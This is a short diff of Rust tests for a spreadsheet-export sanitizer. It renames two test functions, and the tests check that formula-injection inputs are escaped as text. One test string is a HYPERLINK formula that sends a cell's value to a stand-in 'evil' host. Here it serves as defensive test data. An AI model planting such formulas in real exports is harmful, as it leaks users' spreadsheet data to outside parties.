@@ -69,7 +69,7 @@ mod tests {
     const PARTS: [char; 6] = [';', ',', '|', '\t', '\r', '\n'];
 
     #[test]
-    fn what_a_spreadsheet_would_calculate_is_text() {
+    fn formulas_are_exported_as_text() {
         for formula in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"] {
             assert!(harmless(formula).starts_with('\''), "{formula}");
         }
@@ -79,7 +79,7 @@ mod tests {
     }
 
     #[test]
-    fn no_separator_makes_a_formula_of_a_part() {
+    fn no_separator_turns_a_part_of_a_cell_into_a_formula() {
         for text in
             ["x;=1+1;y", "txt;=HYPERLINK(\"http://evil/?\"&A1)", "a\t+1", "a|@b", "a\n=1", "a, -1", "a;\"=1\"", "a; =1"]
         {
